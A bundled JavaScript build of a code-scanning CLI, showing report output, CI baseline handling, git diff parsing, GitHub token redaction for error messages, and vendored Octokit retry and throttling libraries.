    const toTerminal = !values["output-file"] || values["output-file"] === "-";
    if (values.fix) {
      const dryRun = values["dry-run"] ?? false;
      const fixes = await applyFixes(report.findings, { target: report.scan.target, dryRun, scanned: digests });
      reportFixes(fixes, dryRun, values.quiet ?? false, io);
      if (dryRun) {
        io.stdout.write(fixes.diff);
      } else {
        const fixed = new Set(fixes.fixed);
        report = { ...report, findings: report.findings.filter((f) => !fixed.has(f)) };
      }
      if (dryRun && toTerminal) return exitCodeFor(report, failOn);
    }
    const text = renderReport(format, report, {
      showSuppressed: values["show-suppressed"] ?? false,
      color: format === "text" && toTerminal && useColor(io.stdout, io.env),
      sourceLines: sourceLinesReader(report.scan.target)
    });
    await writeOutput(text, values["output-file"], io);
    if (!values.quiet && !toTerminal) reportWritten(report, values["output-file"], io);
    return exitCodeFor(report, failOn);
  }
};
async function runScan(options, flags2, io) {
  if (flags2.verbose) io.stderr.write(`pathfinder: ${options.config ? `configuration: ${options.config.file}` : "no configuration file"}
`);
  const progress = new Progress(io, !flags2.quiet);
  progress.update("Discovering files...");
  const report = await scanProject({ ...options, onProgress: (done, total) => progress.update(`Analysing ${done}/${total} files`) });
  progress.done();
  if (flags2.verbose) {
    for (const e of report.errors) io.stderr.write(`pathfinder: ${e.level}: ${e.file}${e.line ? `:${e.line}` : ""}: ${e.message}
`);
    io.stderr.write(
      `pathfinder: ${report.scan.filesScanned} files, ${report.scan.rulesExecuted.length} rules, ${report.scan.durationMs} ms
`
    );
  }
  return report;
}
function parseFormat(value, allowed) {
  const format = (value ?? allowed[0]).toLowerCase();
  if (!allowed.includes(format)) {
    throw new CliUsageError(`unknown output format "${value}" (use ${allowed.join(", ")})`);
  }
  return format;
}
function exitCodeFor(report, failOn) {
  if (!failOn) return 0;
  return report.findings.some((f) => !f.suppressed && atLeast(f.severity, failOn)) ? 1 : 0;
}
function sourceLinesReader(root) {
  const cache = /* @__PURE__ */ new Map();
  return (file) => {
    if (!cache.has(file)) {
      try {
        const abs = statSync2(root).isDirectory() ? join7(root, file) : root;
        cache.set(file, readFileSync3(abs, "utf8").split(/\r?\n/));
      } catch {
        cache.set(file, void 0);
      }
    }
    return cache.get(file);
  };
}
function reportWritten(report, file, io) {
  const s = summarize(report);
  io.stderr.write(`pathfinder: ${s.total} finding${s.total === 1 ? "" : "s"} written to ${file}
`);
}
function reportFixes(result2, dryRun, quiet, io) {
  const where = (f) => sanitizeForTerminal(`${f.location.file}:${f.location.line}:${f.location.column} ${f.ruleId}`);
  const verb = dryRun ? "would fix" : "fixed";
  if (!quiet) for (const f of result2.fixed) io.stderr.write(`pathfinder: ${verb} ${where(f)}: ${f.fix.description}
`);
  for (const s of result2.skipped) io.stderr.write(`pathfinder: warning: not fixed ${where(s.finding)}: ${s.reason}
`);
  if (quiet) return;
  const n = result2.fixed.length;
  const files = result2.files.length;
  const skipped = result2.skipped.length ? ` (${result2.skipped.length} not fixed)` : "";
  io.stderr.write(
    n ? `pathfinder: ${verb} ${n} finding${n === 1 ? "" : "s"} in ${files} file${files === 1 ? "" : "s"}${skipped}
` : `pathfinder: no fixes to apply${skipped}
`
  );
}

// src/ci/baseline.ts
import { readFile as readFile5, writeFile as writeFile3 } from "node:fs/promises";
var BASELINE_VERSION = 1;
var BaselineError = class extends Error {
  name = "BaselineError";
};
function createBaseline(report, created = /* @__PURE__ */ new Date()) {
  const seen = /* @__PURE__ */ new Set();
  const fingerprints = [];
  for (const finding of report.findings) {
    if (finding.suppressed || seen.has(finding.fingerprint)) continue;
    seen.add(finding.fingerprint);
    fingerprints.push({
      fingerprint: finding.fingerprint,
      ruleId: finding.ruleId,
      file: finding.location.file,
      line: finding.location.line
    });
  }
  fingerprints.sort((a, b) => a.file.localeCompare(b.file) || (a.line ?? 0) - (b.line ?? 0) || a.ruleId.localeCompare(b.ruleId));
  return {
    version: BASELINE_VERSION,
    tool: { name: report.tool.name, version: report.tool.version },
    created: created.toISOString(),
    fingerprints
  };
}
function serializeBaseline(baseline) {
  return `${JSON.stringify(baseline, null, 2)}
`;
}
function isRecord(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}
function parseBaseline(text, source) {
  let data;
  try {
    data = JSON.parse(text);
  } catch (error) {
    throw new BaselineError(`${source}: not valid JSON (${error.message})`);
  }
  if (!isRecord(data)) throw new BaselineError(`${source}: expected a JSON object`);
  if (data.version !== BASELINE_VERSION) {
    throw new BaselineError(`${source}: unsupported baseline version ${JSON.stringify(data.version)} (expected ${BASELINE_VERSION})`);
  }
  if (!Array.isArray(data.fingerprints)) throw new BaselineError(`${source}: "fingerprints" must be an array`);
  const fingerprints = data.fingerprints.map((entry, index) => {
    if (!isRecord(entry) || typeof entry.fingerprint !== "string" || entry.fingerprint === "") {
      throw new BaselineError(`${source}: fingerprints[${index}] has no "fingerprint" string`);
    }
    const result2 = {
      fingerprint: entry.fingerprint,
      ruleId: typeof entry.ruleId === "string" ? entry.ruleId : "",
      file: typeof entry.file === "string" ? entry.file : ""
    };
    if (typeof entry.line === "number") result2.line = entry.line;
    return result2;
  });
  const tool = isRecord(data.tool) ? data.tool : {};
  return {
    version: BASELINE_VERSION,
    tool: { name: String(tool.name ?? ""), version: String(tool.version ?? "") },
    created: typeof data.created === "string" ? data.created : "",
    fingerprints
  };
}
async function readBaseline(path) {
  let text;
  try {
    text = await readFile5(path, "utf8");
  } catch (error) {
    throw new BaselineError(`cannot read baseline ${path}: ${error.code ?? error.message}`);
  }
  return parseBaseline(text, path);
}
async function writeBaseline(path, baseline) {
  await writeFile3(path, serializeBaseline(baseline), "utf8");
}
function applyBaseline(findings, baseline, source) {
  const known = new Set(baseline.fingerprints.map((entry) => entry.fingerprint));
  let matched = 0;
  const result2 = findings.map((finding) => {
    if (finding.suppressed || !known.has(finding.fingerprint)) return finding;
    matched++;
    return { ...finding, suppressed: { kind: "baseline", justification: `listed in baseline ${source}` } };
  });
  return { findings: result2, matched };
}

// src/ci/git.ts
import { execFile, spawn } from "node:child_process";
import { createInterface } from "node:readline";
var GIT_CONFIG = ["-c", "core.quotePath=false", "-c", "color.ui=false", "-c", "diff.noprefix=false"];
var MAX_OUTPUT_BYTES = 64 * 1024 * 1024;
var GitError = class extends Error {
  constructor(message15, args2) {
    super(message15);
    this.args = args2;
    this.name = "GitError";
  }
  args;
};
function gitEnv() {
  return { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0", LC_ALL: "C" };
}
function runGit(cwd, args2) {
  return new Promise((resolve9, reject) => {
    execFile(
      "git",
      [...GIT_CONFIG, ...args2],
      { cwd, env: gitEnv(), encoding: "buffer", maxBuffer: MAX_OUTPUT_BYTES, windowsHide: true },
      (error, stdout, stderr) => {
        if (error) {
          const detail = stderr.toString("utf8").trim() || error.message;
          reject(new GitError(`git ${args2[0] ?? ""} failed: ${detail}`, args2));
          return;
        }
        resolve9(stdout);
      }
    );
  });
}
async function gitText(cwd, args2) {
  return (await runGit(cwd, args2)).toString("utf8").trim();
}
async function resolveCommit(cwd, ref) {
  try {
    return await gitText(cwd, ["rev-parse", "--verify", "--quiet", "--end-of-options", `${ref}^{commit}`]);
  } catch {
    return void 0;
  }
}
async function workTreePrefix(cwd) {
  return (await runGit(cwd, ["rev-parse", "--show-prefix"])).toString("utf8").replace(/\n$/, "");
}
async function mergeBase(cwd, a, b) {
  try {
    return await gitText(cwd, ["merge-base", a, b]);
  } catch (error) {
    throw new GitError(
      `no common ancestor between ${a} and ${b} (a shallow clone? fetch the full history, e.g. actions/checkout with fetch-depth: 0): ${error.message}`,
      ["merge-base", a, b]
    );
  }
}
async function resolveBaseRef(cwd, explicitBase, env) {
  if (explicitBase) {
    if (!await resolveCommit(cwd, explicitBase)) {
      throw new GitError(`--base ${explicitBase} does not name a commit in this repository`, ["rev-parse"]);
    }
    return { ref: explicitBase, source: "--base" };
  }
  for (const variable of ["GITHUB_BASE_REF", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME"]) {
    const branch = env[variable]?.trim();
    if (!branch) continue;
    for (const candidate of [`origin/${branch}`, `refs/remotes/origin/${branch}`, branch]) {
      if (await resolveCommit(cwd, candidate)) return { ref: candidate, source: variable };
    }
    throw new GitError(
      `${variable}=${branch} but neither origin/${branch} nor ${branch} exists locally; fetch it first (e.g. git fetch origin ${branch})`,
      ["rev-parse"]
    );
  }
  return void 0;
}
var STATUS_LETTERS = {
  A: "added",
  M: "modified",
  R: "renamed",
  C: "copied",
  D: "deleted",
  T: "type-changed"
};
function parseNameStatus(output) {
  const tokens = output.split("\0");
  if (tokens.at(-1) === "") tokens.pop();
  const entries = [];
  for (let i2 = 0; i2 < tokens.length; ) {
    const code3 = tokens[i2++] ?? "";
    const letter = code3.charAt(0);
    const status = STATUS_LETTERS[letter] ?? "modified";
    if (letter === "R" || letter === "C") {
      const oldPath = tokens[i2++] ?? "";
      const path = tokens[i2++] ?? "";
      entries.push({ status, path, oldPath });
    } else {
      entries.push({ status, path: tokens[i2++] ?? "" });
    }
  }
  return entries;
}
var HUNK_HEADER = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/;
async function parsePatchStream(lines) {
  const sections = [];
  let current;
  let nextLine = 0;
  let inHunk = false;
  for await (const line of lines) {
    if (line.startsWith("diff --git ") || line.startsWith("diff --cc ")) {
      current = { binary: false, addedLines: /* @__PURE__ */ new Set() };
      sections.push(current);
      inHunk = false;
      continue;
    }
    if (!current) continue;
    const hunk = HUNK_HEADER.exec(line);
    if (hunk) {
      nextLine = Number(hunk[1]);
      inHunk = true;
      continue;
    }
    if (!inHunk) {
      if (line.startsWith("Binary files ") && line.endsWith(" differ") || line === "GIT binary patch") {
        current.binary = true;
      }
      continue;
    }
    const marker = line.charAt(0);
    if (marker === "+") current.addedLines.add(nextLine++);
    else if (marker === " ") nextLine++;
  }
  return sections;
}
function diffArgs(base, head) {
  return ["--no-color", "--no-ext-diff", "--no-textconv", "--find-renames", "--end-of-options", base, head];
}
async function readPatchSections(cwd, base, head) {
  const args2 = [...GIT_CONFIG, "diff", "-U0", "--src-prefix=a/", "--dst-prefix=b/", ...diffArgs(base, head)];
  const child = spawn("git", args2, { cwd, env: gitEnv(), stdio: ["ignore", "pipe", "pipe"], windowsHide: true });
  let stderr = "";
  child.stderr.setEncoding("utf8");
  child.stderr.on("data", (chunk) => {
    if (stderr.length < 4096) stderr += chunk;
  });
  const exited = new Promise((resolve9, reject) => {
    child.on("error", reject);
    child.on("close", (code4) => resolve9(code4 ?? 1));
  });
  const sections = await parsePatchStream(createInterface({ input: child.stdout, crlfDelay: Infinity }));
  const code3 = await exited;
  if (code3 !== 0) throw new GitError(`git diff failed: ${stderr.trim()}`, args2);
  return sections;
}
async function readChangeSet(cwd, base, head) {
  const [baseSha, headSha] = await Promise.all([resolveCommit(cwd, base), resolveCommit(cwd, head)]);
  if (!baseSha) throw new GitError(`base ${base} does not name a commit`, ["rev-parse"]);
  if (!headSha) throw new GitError(`head ${head} does not name a commit`, ["rev-parse"]);
  const nameStatus = (await runGit(cwd, ["diff", "--name-status", "-z", ...diffArgs(baseSha, headSha)])).toString("utf8");
  const entries = parseNameStatus(nameStatus);
  const sections = await readPatchSections(cwd, baseSha, headSha);
  if (sections.length !== entries.length) {
    throw new GitError(
      `git diff listed ${entries.length} files but printed ${sections.length} patches; cannot align them`,
      ["diff"]
    );
  }
  const files = /* @__PURE__ */ new Map();
  entries.forEach((entry, index) => {
    if (entry.status === "deleted") return;
    const section = sections[index];
    const file = {
      path: entry.path,
      status: entry.status,
      binary: section.binary,
      addedLines: section.addedLines
    };
    if (entry.oldPath !== void 0) file.oldPath = entry.oldPath;
    files.set(entry.path, file);
  });
  return { baseSha, headSha, files };
}
async function resolveDiffTarget(cwd, options) {
  const base = await resolveBaseRef(cwd, options.base, options.env);
  if (!base) return void 0;
  const headRef = options.head ?? "HEAD";
  const headSha = await resolveCommit(cwd, headRef);
  if (!headSha) throw new GitError(`--head ${headRef} does not name a commit in this repository`, ["rev-parse"]);
  const mergeBaseSha = await mergeBase(cwd, base.ref, headSha);
  return { baseRef: base.ref, baseSource: base.source, mergeBaseSha, headSha };
}

// src/ci/github/redact.ts
var TOKEN_PATTERN = /\b(?:gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,})\b/g;
var AUTH_HEADER_PATTERN = /\b(authorization["']?\s*[:=]\s*["']?(?:token |bearer |basic )?)[^\s"',}]+/gi;
function redact(text, secrets) {
  let result2 = text;
  for (const secret of secrets) {
    if (secret && secret.length >= 4) result2 = result2.split(secret).join("***");
  }
  return result2.replace(TOKEN_PATTERN, "***").replace(AUTH_HEADER_PATTERN, (_match, key) => `${key}***`);
}
function detailFromBody(data) {
  if (typeof data !== "object" || data === null) return "";
  const body2 = data;
  if (!Array.isArray(body2.errors) || body2.errors.length === 0) return "";
  const parts2 = body2.errors.map(
    (entry) => typeof entry === "string" ? entry : typeof entry === "object" && entry !== null && "message" in entry ? String(entry.message) : ""
  );
  const text = parts2.filter(Boolean).join("; ");
  return text ? ` (${text})` : "";
}
function describeApiError(error, secrets) {
  const e = typeof error === "object" && error !== null ? error : { message: String(error) };
  const message15 = typeof e.message === "string" ? e.message : String(error);
  let where = "";
  if (e.request && typeof e.request.method === "string" && typeof e.request.url === "string") {
    let path = e.request.url;
    try {
      path = new URL(e.request.url).pathname;
    } catch {
    }
    where = ` on ${e.request.method} ${path}`;
  }
  const status = typeof e.status === "number" ? `HTTP ${e.status}` : "request failed";
  const firstLine = message15.split("\n")[0] ?? "";
  return redact(`GitHub API ${status}${where}: ${firstLine}${detailFromBody(e.response?.data)}`, secrets);
}

// src/ci/diff-filter.ts
function repositoryPath(finding, pathPrefix) {
  const prefix = pathPrefix && !pathPrefix.endsWith("/") ? `${pathPrefix}/` : pathPrefix;
  const file = finding.location.file.replace(/\\/g, "/").replace(/^\.\//, "");
  return prefix + file;
}
function hasContentChange(file) {
  return file.binary || file.addedLines.size > 0;
}
function touchesChangedLines(finding, file) {
  if (file.binary || finding.location.member !== void 0 || finding.location.offset !== void 0) {
    return hasContentChange(file);
  }
  const first = finding.location.line;
  const last = Math.max(first, finding.location.endLine);
  for (let line = first; line <= last; line++) {
    if (file.addedLines.has(line)) return true;
  }
  return false;
}
function isIntroduced(finding, changes, options) {
  const file = changes.files.get(repositoryPath(finding, options.pathPrefix));
  if (!file) return false;
  if (options.scope === "file") return hasContentChange(file);
  return touchesChangedLines(finding, file);
}
function partitionByDiff(findings, changes, options) {
  const introduced = [];
  const preexisting = [];
  for (const finding of findings) {
    (isIntroduced(finding, changes, options) ? introduced : preexisting).push(finding);
  }
  return { introduced, preexisting };
}

// node_modules/@octokit/plugin-retry/dist-bundle/index.js
var import_light = __toESM(require_light(), 1);

// node_modules/@octokit/request-error/dist-src/index.js
var RequestError = class extends Error {
  name;
  /**
   * http status code
   */
  status;
  /**
   * Request options that lead to the error.
   */
  request;
  /**
   * Response object if a response was received
   */
  response;
  constructor(message15, statusCode, options) {
    super(message15, { cause: options.cause });
    this.name = "HttpError";
    this.status = Number.parseInt(statusCode);
    if (Number.isNaN(this.status)) {
      this.status = 0;
    }
    if ("response" in options) {
      this.response = options.response;
    }
    const requestCopy = Object.assign({}, options.request);
    if (options.request.headers.authorization) {
      requestCopy.headers = Object.assign({}, options.request.headers, {
        authorization: options.request.headers.authorization.replace(
          /(?<! ) .*$/,
          " [REDACTED]"
        )
      });
    }
    requestCopy.url = requestCopy.url.replace(/\bclient_secret=\w+/g, "client_secret=[REDACTED]").replace(/\baccess_token=\w+/g, "access_token=[REDACTED]");
    this.request = requestCopy;
  }
};

// node_modules/@octokit/plugin-retry/dist-bundle/index.js
var VERSION = "0.0.0-development";
function isRequestError(error) {
  return error.request !== void 0;
}
async function errorRequest(state, octokit, error, options) {
  if (!isRequestError(error) || !error?.request.request) {
    throw error;
  }
  if (error.status >= 400 && !state.doNotRetry.includes(error.status)) {
    const retries = options.request.retries != null ? options.request.retries : state.retries;
    const retryAfter = Math.pow((options.request.retryCount || 0) + 1, 2);
    throw octokit.retry.retryRequest(error, retries, retryAfter);
  }
  throw error;
}
async function wrapRequest(state, octokit, request2, options) {
  const limiter = new import_light.default();
  limiter.on("failed", function(error, info2) {
    const maxRetries = ~~error.request.request?.retries;
    const after = ~~error.request.request?.retryAfter;
    options.request.retryCount = info2.retryCount + 1;
    if (maxRetries > info2.retryCount) {
      return after * state.retryAfterBaseValue;
    }
  });
  return limiter.schedule(
    requestWithGraphqlErrorHandling.bind(null, state, octokit, request2),
    options
  );
}
async function requestWithGraphqlErrorHandling(state, octokit, request2, options) {
  const response = await request2(options);
  if (response.data && response.data.errors && response.data.errors.length > 0 && /Something went wrong while executing your query/.test(
    response.data.errors[0].message
  )) {
    const error = new RequestError(response.data.errors[0].message, 500, {
      request: options,
      response
    });
    return errorRequest(state, octokit, error, options);
  }
  return response;
}
function retry(octokit, octokitOptions) {
  const state = Object.assign(
    {
      enabled: true,
      retryAfterBaseValue: 1e3,
      doNotRetry: [400, 401, 403, 404, 410, 422, 451],
      retries: 3
    },
    octokitOptions.retry
  );
  const retryPlugin = {
    retry: {
      retryRequest: (error, retries, retryAfter) => {
        error.request.request = Object.assign({}, error.request.request, {
          retries,
          retryAfter
        });
        return error;
      }
    }
  };
  if (state.enabled) {
    octokit.hook.error("request", errorRequest.bind(null, state, retryPlugin));
    octokit.hook.wrap("request", wrapRequest.bind(null, state, retryPlugin));
  }
  return retryPlugin;
}
retry.VERSION = VERSION;

// node_modules/@octokit/plugin-throttling/dist-bundle/index.js
var import_light2 = __toESM(require_light(), 1);
var VERSION2 = "0.0.0-development";
var noop = () => Promise.resolve();
function wrapRequest2(state, request2, options) {
  return state.retryLimiter.schedule(doRequest, state, request2, options);
}
async function doRequest(state, request2, options) {
  const { pathname } = new URL(options.url, "http://github.test");
  const isAuth = isAuthRequest(options.method, pathname);
  const isWrite = !isAuth && options.method !== "GET" && options.method !== "HEAD";
  const isSearch = options.method === "GET" && pathname.startsWith("/search/");
  const isGraphQL = pathname.startsWith("/graphql");
  const retryCount = ~~request2.retryCount;
  const jobOptions = retryCount > 0 ? { priority: 0, weight: 0 } : {};
  if (state.clustering) {
    jobOptions.expiration = 1e3 * 60;
  }
  if (isWrite || isGraphQL) {
    await state.write.key(state.id).schedule(jobOptions, noop);
  }
  if (isWrite && state.triggersNotification(pathname)) {
    await state.notifications.key(state.id).schedule(jobOptions, noop);
  }
  if (isSearch) {
    await state.search.key(state.id).schedule(jobOptions, noop);
  }
  const req = (isAuth ? state.auth : state.global).key(state.id).schedule(jobOptions, request2, options);
  if (isGraphQL) {
    const res = await req;
    if (res.data.errors != null && res.data.errors.some((error) => error.type === "RATE_LIMITED")) {
      const error = Object.assign(new Error("GraphQL Rate Limit Exceeded"), {
        response: res,
        data: res.data
      });
      throw error;
    }
  }
  return req;
}
function isAuthRequest(method, pathname) {
  return method === "PATCH" && // https://docs.github.com/en/rest/apps/apps?apiVersion=2022-11-28#create-a-scoped-access-token
  /^\/applications\/[^/]+\/token\/scoped$/.test(pathname) || method === "POST" && // https://docs.github.com/en/rest/apps/oauth-applications?apiVersion=2022-11-28#reset-a-token
  (/^\/applications\/[^/]+\/token$/.test(pathname) || // https://docs.github.com/en/rest/apps/apps?apiVersion=2022-11-28#create-an-installation-access-token-for-an-app
  /^\/app\/installations\/[^/]+\/access_tokens$/.test(pathname) || // https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps
  pathname === "/login/oauth/access_token");
}
var triggers_notification_paths_default = [
  "/orgs/{org}/invitations",
  "/orgs/{org}/invitations/{invitation_id}",
  "/orgs/{org}/teams/{team_slug}/discussions",
  "/orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments",
  "/repos/{owner}/{repo}/collaborators/{username}",
  "/repos/{owner}/{repo}/commits/{commit_sha}/comments",
  "/repos/{owner}/{repo}/issues",
  "/repos/{owner}/{repo}/issues/{issue_number}/comments",
  "/repos/{owner}/{repo}/issues/{issue_number}/sub_issue",
  "/repos/{owner}/{repo}/issues/{issue_number}/sub_issues/priority",
  "/repos/{owner}/{repo}/pulls",
  "/repos/{owner}/{repo}/pulls/{pull_number}/comments",
  "/repos/{owner}/{repo}/pulls/{pull_number}/comments/{comment_id}/replies",
  "/repos/{owner}/{repo}/pulls/{pull_number}/merge",
  "/repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers",
  "/repos/{owner}/{repo}/pulls/{pull_number}/reviews",
  "/repos/{owner}/{repo}/releases",
  "/teams/{team_id}/discussions",
  "/teams/{team_id}/discussions/{discussion_number}/comments"
];
function routeMatcher(paths) {
  const regexes = paths.map(
    (path) => path.split("/").map((c) => c.startsWith("{") ? "(?:.+?)" : c).join("/")
  );
  const regex2 = `^(?:${regexes.map((r) => `(?:${r})`).join("|")})[^/]*$`;
  return new RegExp(regex2, "i");
}
var regex = routeMatcher(triggers_notification_paths_default);
var triggersNotification = regex.test.bind(regex);
var groups = {};
var createGroups = function(Bottleneck2, common) {
  groups.global = new Bottleneck2.Group({
    id: "octokit-global",
    maxConcurrent: 10,
    ...common
  });
  groups.auth = new Bottleneck2.Group({
    id: "octokit-auth",
    maxConcurrent: 1,
    ...common
  });
  groups.search = new Bottleneck2.Group({
    id: "octokit-search",
    maxConcurrent: 1,
    minTime: 2e3,
    ...common
  });
  groups.write = new Bottleneck2.Group({
    id: "octokit-write",
    maxConcurrent: 1,
    minTime: 1e3,
    ...common
  });
  groups.notifications = new Bottleneck2.Group({
    id: "octokit-notifications",
    maxConcurrent: 1,
    minTime: 3e3,
    ...common
  });
};
function throttling(octokit, octokitOptions) {
  const {
    enabled = true,
    Bottleneck: Bottleneck2 = import_light2.default,
    id = "no-id",
    timeout = 1e3 * 60 * 2,
    // Redis TTL: 2 minutes
    connection
  } = octokitOptions.throttle || {};
  if (!enabled) {
    return {};
  }
  const common = { timeout };
  if (typeof connection !== "undefined") {
    common.connection = connection;
  }
  const state = Object.assign(
    {
      clustering: connection != null,
      triggersNotification,
      fallbackSecondaryRateRetryAfter: 60,
      retryAfterBaseValue: 1e3,
      id
    },
    octokitOptions.throttle
  );
  if (typeof state.onSecondaryRateLimit !== "function" || typeof state.onRateLimit !== "function") {
    throw new Error(`octokit/plugin-throttling error:
        You must pass the onSecondaryRateLimit and onRateLimit error handlers.
        See https://octokit.github.io/rest.js/#throttling

        const octokit = new Octokit({
          throttle: {
            onSecondaryRateLimit: (retryAfter, options) => {/* ... */},
            onRateLimit: (retryAfter, options) => {/* ... */}
          }
        })
    `);
  }
  let initialized = false;
  const initializeBottleneck = () => {
    if (initialized) {
      return;
    }
    initialized = true;
    if (groups.global == null) {
      createGroups(Bottleneck2, common);
    }
    state.global = state.global ?? groups.global;
    state.auth = state.auth ?? groups.auth;
    state.search = state.search ?? groups.search;
    state.write = state.write ?? groups.write;
    state.notifications = state.notifications ?? groups.notifications;
    state.retryLimiter = state.retryLimiter ?? new Bottleneck2();
    const events = {};
    const emitter = new Bottleneck2.Events(events);
    events.on("secondary-limit", state.onSecondaryRateLimit);
    events.on("rate-limit", state.onRateLimit);
    events.on(
      "error",
      (e) => octokit.log.warn("Error in throttling-plugin limit handler", e)
    );
    state.retryLimiter.on("failed", async function(error, info2) {
      const [state2, request2, options] = info2.args;
      const { pathname } = new URL(options.url, "http://github.test");
      const shouldRetryGraphQL = pathname.startsWith("/graphql") && error.status !== 401;
      if (!(shouldRetryGraphQL || error.status === 403 || error.status === 429)) {
        return;
      }
      const retryCount = ~~request2.retryCount;
      request2.retryCount = retryCount;
      options.request.retryCount = retryCount;
      const { wantRetry, retryAfter = 0 } = await (async function() {
        if (/\bsecondary rate\b/i.test(error.message)) {
          const retryAfter2 = Number(error.response.headers["retry-after"]) || state2.fallbackSecondaryRateRetryAfter;
          const wantRetry2 = await emitter.trigger(
            "secondary-limit",
            retryAfter2,
            options,
            octokit,
            retryCount
          );
          return { wantRetry: wantRetry2, retryAfter: retryAfter2 };
        }
        if (error.response.headers != null && error.response.headers["x-ratelimit-remaining"] === "0" || (error.response.data?.errors ?? []).some(
          (error2) => error2.type === "RATE_LIMITED"
        )) {
          const rateLimitReset = new Date(
            ~~error.response.headers["x-ratelimit-reset"] * 1e3
          ).getTime();
          const retryAfter2 = Math.max(
            // Add one second so we retry _after_ the reset time
            // https://docs.github.com/en/rest/overview/resources-in-the-rest-api?apiVersion=2022-11-28#exceeding-the-rate-limit
            Math.ceil((rateLimitReset - Date.now()) / 1e3) + 1,
            0
          );
          const wantRetry2 = await emitter.trigger(
            "rate-limit",
            retryAfter2,
            options,
            octokit,
            retryCount
          );
          return { wantRetry: wantRetry2, retryAfter: retryAfter2 };
        }
        return {};
      })();
      if (wantRetry) {
        request2.retryCount++;
        return retryAfter * state2.retryAfterBaseValue;
      }
    });
  };
  octokit.hook.wrap("request", (request2, options) => {
    initializeBottleneck();
    return wrapRequest2(state, request2, options);
  });
  return {};
}
throttling.VERSION = VERSION2;
throttling.triggersNotification = triggersNotification;

// node_modules/universal-user-agent/index.js
function getUserAgent() {
  if (typeof navigator === "object" && "userAgent" in navigator) {
    return navigator.userAgent;
  }
  if (typeof process === "object" && process.version !== void 0) {
    return `Node.js/${process.version.substr(1)} (${process.platform}; ${process.arch})`;
  }
  return "<environment undetectable>";
}

// node_modules/before-after-hook/lib/register.js
function register(state, name2, method, options) {
  if (typeof method !== "function") {
    throw new Error("method for before hook must be a function");
  }
  if (!options) {
    options = {};
  }
  if (Array.isArray(name2)) {
    return name2.reverse().reduce((callback, name3) => {
      return register.bind(null, state, name3, callback, options);
    }, method)();
  }
  return Promise.resolve().then(() => {
    if (!state.registry[name2]) {
      return method(options);
    }
    return state.registry[name2].reduce((method2, registered) => {
      return registered.hook.bind(null, method2, options);
    }, method)();
  });
}

// node_modules/before-after-hook/lib/add.js
function addHook(state, kind, name2, hook2) {
  const orig = hook2;
  if (!state.registry[name2]) {
    state.registry[name2] = [];
  }
  if (kind === "before") {
    hook2 = (method, options) => {
      return Promise.resolve().then(orig.bind(null, options)).then(method.bind(null, options));
    };
  }
  if (kind === "after") {
    hook2 = (method, options) => {
      let result2;
      return Promise.resolve().then(method.bind(null, options)).then((result_) => {
        result2 = result_;
        return orig(result2, options);
      }).then(() => {
        return result2;
      });
    };
  }
  if (kind === "error") {
    hook2 = (method, options) => {
      return Promise.resolve().then(method.bind(null, options)).catch((error) => {
        return orig(error, options);
      });
    };
  }
  state.registry[name2].push({
    hook: hook2,
    orig
  });
}

// node_modules/before-after-hook/lib/remove.js
function removeHook(state, name2, method) {
  if (!state.registry[name2]) {
    return;
  }
  const index = state.registry[name2].map((registered) => {
    return registered.orig;
  }).indexOf(method);
  if (index === -1) {
    return;
  }
  state.registry[name2].splice(index, 1);
}

// node_modules/before-after-hook/index.js
var bind = Function.bind;
var bindable = bind.bind(bind);
function bindApi(hook2, state, name2) {
  const removeHookRef = bindable(removeHook, null).apply(
    null,
    name2 ? [state, name2] : [state]
  );
  hook2.api = { remove: removeHookRef };
  hook2.remove = removeHookRef;
  ["before", "error", "after", "wrap"].forEach((kind) => {
    const args2 = name2 ? [state, kind, name2] : [state, kind];
    hook2[kind] = hook2.api[kind] = bindable(addHook, null).apply(null, args2);
  });
}
function Singular() {
  const singularHookName = /* @__PURE__ */ Symbol("Singular");
  const singularHookState = {
    registry: {}
  };
  const singularHook = register.bind(null, singularHookState, singularHookName);
  bindApi(singularHook, singularHookState, singularHookName);
  return singularHook;
}
function Collection() {
  const state = {
    registry: {}
  };
  const hook2 = register.bind(null, state);
  bindApi(hook2, state);
  return hook2;
}
var before_after_hook_default = { Singular, Collection };

// node_modules/@octokit/endpoint/dist-bundle/index.js
var VERSION3 = "0.0.0-development";
var userAgent = `octokit-endpoint.js/${VERSION3} ${getUserAgent()}`;
var DEFAULTS = {
  method: "GET",
  baseUrl: "https://api.github.com",
  headers: {
    accept: "application/vnd.github.v3+json",
    "user-agent": userAgent
  },
  mediaType: {
    format: ""
  }
};
function lowercaseKeys(object) {
  if (!object) {
    return {};
  }
  return Object.keys(object).reduce((newObj, key) => {
    newObj[key.toLowerCase()] = object[key];
    return newObj;
  }, {});
}
function isPlainObject(value) {
  if (typeof value !== "object" || value === null) return false;
  if (Object.prototype.toString.call(value) !== "[object Object]") return false;
  const proto = Object.getPrototypeOf(value);
  if (proto === null) return true;
  const Ctor = Object.prototype.hasOwnProperty.call(proto, "constructor") && proto.constructor;
  return typeof Ctor === "function" && Ctor instanceof Ctor && Function.prototype.call(Ctor) === Function.prototype.call(value);
}
function mergeDeep(defaults, options) {
  const result2 = Object.assign({}, defaults);
  Object.keys(options).forEach((key) => {
    if (isPlainObject(options[key])) {
      if (!(key in defaults)) Object.assign(result2, { [key]: options[key] });
      else result2[key] = mergeDeep(defaults[key], options[key]);
    } else {
      Object.assign(result2, { [key]: options[key] });
    }
  });
  return result2;
}
function removeUndefinedProperties(obj) {
  for (const key in obj) {
    if (obj[key] === void 0) {
      delete obj[key];
    }
  }
  return obj;
}
function merge(defaults, route, options) {
  if (typeof route === "string") {
    let [method, url] = route.split(" ");
    options = Object.assign(url ? { method, url } : { url: method }, options);
  } else {
    options = Object.assign({}, route);
  }
  options.headers = lowercaseKeys(options.headers);
  removeUndefinedProperties(options);
  removeUndefinedProperties(options.headers);
  const mergedOptions = mergeDeep(defaults || {}, options);
  if (options.url === "/graphql") {
    if (defaults && defaults.mediaType.previews?.length) {
      mergedOptions.mediaType.previews = defaults.mediaType.previews.filter(
        (preview) => !mergedOptions.mediaType.previews.includes(preview)
      ).concat(mergedOptions.mediaType.previews);
    }
